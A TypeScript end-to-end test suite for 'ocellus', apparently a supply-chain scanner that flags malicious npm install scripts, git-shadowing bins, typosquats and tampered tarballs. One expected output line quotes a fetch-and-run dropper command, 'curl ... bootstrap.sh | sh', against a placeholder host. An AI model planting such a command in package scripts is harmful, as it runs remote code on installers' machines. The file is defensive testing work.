import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Arborist from '@npmcli/arborist';
import pacote from 'pacote';
import { describe, expect, inject, it } from 'vitest';
import type { Report } from '../../src/report/build.js';
import { validateReport } from '../helpers/report-schema.js';
import { makeTarball } from '../helpers/tarball.js';
import { isolatedHome, runCli } from './cli.js';

const registry = inject('registryUrl');
const storage = inject('registryStorage');

async function scanJson(...specs: string[]) {
  const result = await runCli(['scan', ...specs, '--registry', registry, '--format', 'json']);
  return { ...result, report: JSON.parse(result.stdout) as Report };
}
const packageOf = (report: Report, name: string) => report.packages.find((pkg) => pkg.name === name);

describe('ocellus scan against a real registry', () => {
  it('passes a clean MCP server and its whole tree, printing only the report', async () => {
    const { code, report, stderr } = await scanJson('weather-mcp-server');
    expect(code).toBe(0);
    expect(stderr).toBe('');
    expect(report.summary).toMatchObject({
      packages: 2,
      findings: 0,
      verdict: 'pass',
      highestSeverity: 'none',
      incomplete: [],
    });
    expect(packageOf(report, 'tiny-units')?.paths).toEqual([['weather-mcp-server', 'tiny-units']]);
    expect(packageOf(report, 'tiny-units')?.integrity).toMatch(/^sha512-/);
    expect(validateReport(report), JSON.stringify(validateReport.errors)).toBe(true);
  });

  it('finds a postinstall dropper three levels down, critical, with its full path, and exits 1', async () => {
    const { code, report } = await scanJson('docs-mcp-server@1.0.0');
    expect(code).toBe(1);
    expect(report.summary.verdict).toBe('block');
    expect(report.summary.highestSeverity).toBe('critical');
    const collector = packageOf(report, 'data-collector');
    expect(collector?.paths[0]).toEqual([
      'docs-mcp-server',
      'docs-helper',
      'markdown-parser-lite',
      'data-collector',
    ]);
    expect(collector?.capabilities).toContain('install-script');
    expect(collector?.findings).toMatchObject([
      { checkId: 'install-scripts', severity: 'critical', location: { file: 'package.json', line: 7 } },
    ]);
    // Only the package that carries the script is blamed.
    for (const name of ['docs-mcp-server', 'docs-helper', 'markdown-parser-lite', 'tiny-units']) {
      expect(packageOf(report, name)?.findings).toEqual([]);
    }
    expect(validateReport(report), JSON.stringify(validateReport.errors)).toBe(true);
  });

  it('the table names the package, the path and the evidence', async () => {
    const { code, stdout } = await runCli(['scan', 'docs-mcp-server', '--registry', registry]);
    expect(code).toBe(1);
    expect(stdout).toContain('data-collector@1.0.0');
    expect(stdout).toContain('via docs-mcp-server › docs-helper › markdown-parser-lite › data-collector');
    expect(stdout).toContain('CRITICAL');
    expect(stdout).toContain('package.json:7:5');
    expect(stdout).toContain('curl -fsSL https://collect.example.invalid/bootstrap.sh | sh');
    expect(stdout.trim().split('\n').at(-1)).toMatch(/^BLOCK docs-mcp-server: 5 packages, 1 critical/);
  });

  it('keeps native addons low and passes them', async () => {
    const { code, report } = await scanJson(
      'native-addon-example',
      'implicit-gyp-addon',
      'binary-installer-example',
    );
    expect(code).toBe(0);
    expect(report.summary.highestSeverity).toBe('low');
    expect(packageOf(report, 'native-addon-example')?.capabilities).toEqual(['install-script', 'native']);
    expect(packageOf(report, 'implicit-gyp-addon')?.findings).toMatchObject([
      { title: 'Implicit native build', severity: 'low' },
    ]);
  });

  it('catches the ua-parser-js style dropper through the shell script it runs', async () => {
    const { code, report } = await scanJson('ua-parser-miner-dropper@0.7.29');
    expect(code).toBe(1);
    expect(packageOf(report, 'ua-parser-miner-dropper')?.findings[0]).toMatchObject({
      severity: 'critical',
      message: expect.stringContaining('preinstall.sh'),
    });
  });

  it('flags a bin that shadows git', async () => {
    const { code, report } = await scanJson('git-shortcuts');
    expect(code).toBe(1);
    expect(packageOf(report, 'git-shortcuts')?.findings).toMatchObject([
      { checkId: 'manifest', severity: 'high' },
    ]);
  });

  it('--fail-on changes the exit code, not the findings', async () => {
    const lenient = await runCli(['scan', 'docs-mcp-server', '--registry', registry, '--fail-on', 'none']);
    expect(lenient.code).toBe(0);
    const strict = await runCli(['scan', 'native-addon-example', '--registry', registry, '--fail-on', 'low']);
    expect(strict.code).toBe(1);
  });

  it('scans a local .tgz and resolves its dependencies from the registry', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ocellus-tgz-'));
    const fixture = new URL('../../fixtures/docs-helper/1.0.0', import.meta.url).pathname;
    const tarball = await pacote.tarball(`file:${fixture}`, { ignoreScripts: true, Arborist });
    writeFileSync(join(dir, 'docs-helper-1.0.0.tgz'), tarball);
    const { code, report } = await scanJson(join(dir, 'docs-helper-1.0.0.tgz'));
    expect(code).toBe(1);
    expect(packageOf(report, 'data-collector')?.paths[0]).toEqual([
      'docs-helper',
      'markdown-parser-lite',
      'data-collector',
    ]);
  });
});

describe('npm configuration', () => {
  it('reads the registry from .npmrc, and --registry overrides it', async () => {
    const project = mkdtempSync(join(tmpdir(), 'ocellus-project-'));
    // A project is a folder with a package.json; npm reads the .npmrc beside it.
    writeFileSync(join(project, 'package.json'), '{"name":"my-project","version":"1.0.0"}');
    writeFileSync(join(project, '.npmrc'), `registry=${registry}\n`);
    const fromNpmrc = await runCli(['scan', 'weather-mcp-server'], {
      cwd: project,
      home: isolatedHome('fetch-retries=0\n'),
    });
    expect(fromNpmrc.stderr).toBe('');
    expect(fromNpmrc.code).toBe(0);

    const dead = isolatedHome('registry=http://127.0.0.1:9/\nfetch-retries=0\n');
    const overridden = await runCli(['scan', 'weather-mcp-server', '--registry', registry], { home: dead });
    expect(overridden.code).toBe(0);
  });

  it('honours scoped registries', async () => {
    const home = isolatedHome(`registry=http://127.0.0.1:9/\nfetch-retries=0\n@acme:registry=${registry}\n`);
    const { code, stdout } = await runCli(['scan', '@acme/weather-mcp@latest', '--format', 'json'], { home });
    expect(code).toBe(0);
    expect(JSON.parse(stdout).packages[0]).toMatchObject({ name: '@acme/weather-mcp', version: '3.0.0' });
  });
});

describe('errors and exit codes', () => {
  it('an unknown package is a usage error that suggests the popular name it resembles', async () => {
    const { code, stdout, stderr } = await runCli(['scan', 'expresss', '--registry', registry]);
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toContain('Package "expresss" was not found');
    expect(stderr).toContain('Did you mean "express"?');
  });

  it('a version that does not exist is a usage error', async () => {
    const { code, stderr } = await runCli(['scan', 'tiny-units@^9.0.0', '--registry', registry]);
    expect(code).toBe(2);
    expect(stderr).toMatch(/No matching version/i);
  });

  it('a malformed spec or option is a usage error', async () => {
    expect((await runCli(['scan', 'git+ssh://x/y.git', '--registry', registry])).code).toBe(2);
    expect((await runCli(['scan', 'Bad Name!'])).code).toBe(2);
    expect((await runCli(['scan', 'x', '--fail-on', 'severe'])).code).toBe(2);
    expect((await runCli(['scan'])).code).toBe(2);
  });

  it('an unreachable registry means the scan could not complete: exit 3', async () => {
    const { code, stderr } = await runCli(
      ['scan', 'weather-mcp-server', '--registry', 'http://127.0.0.1:9/'],
      {
        env: { npm_config_fetch_retries: '0' },
      },
    );
    expect(code).toBe(3);
    expect(stderr).toMatch(/could not resolve the dependency tree/i);
  });

  it('a tarball that does not match its integrity is never analysed or passed: exit 3, named', async () => {
    // The registry now serves other bytes than the ones its packument vouches for.
    const stored = join(storage, 'tampered-tarball', 'tampered-tarball-1.0.0.tgz');
    writeFileSync(
      stored,
      makeTarball([{ path: 'package/package.json', body: '{"name":"tampered-tarball","version":"1.0.0"}' }]),
    );
    const home = isolatedHome();
    const { code, stdout, stderr } = await runCli(
      ['scan', 'tampered-tarball', '--registry', registry, '--format', 'json'],
      {
        home,
      },
    );
    expect(code).toBe(3);
    const report = JSON.parse(stdout) as Report;
    expect(report.summary.verdict).not.toBe('pass');
    expect(report.summary.incomplete).toMatchObject([{ name: 'tampered-tarball', code: 'EINTEGRITY' }]);
    expect(stderr).toContain('tampered-tarball@1.0.0');

    const accepted = await runCli(
      ['scan', 'tampered-tarball', '--registry', registry, '--allow-incomplete'],
      {
        home,
        env: { npm_config_fetch_retries: '0' },
      },
    );
    expect(accepted.code).toBe(0);
    expect(accepted.stdout).toMatch(/^WARN .*1 not analysed/m);
  });
});
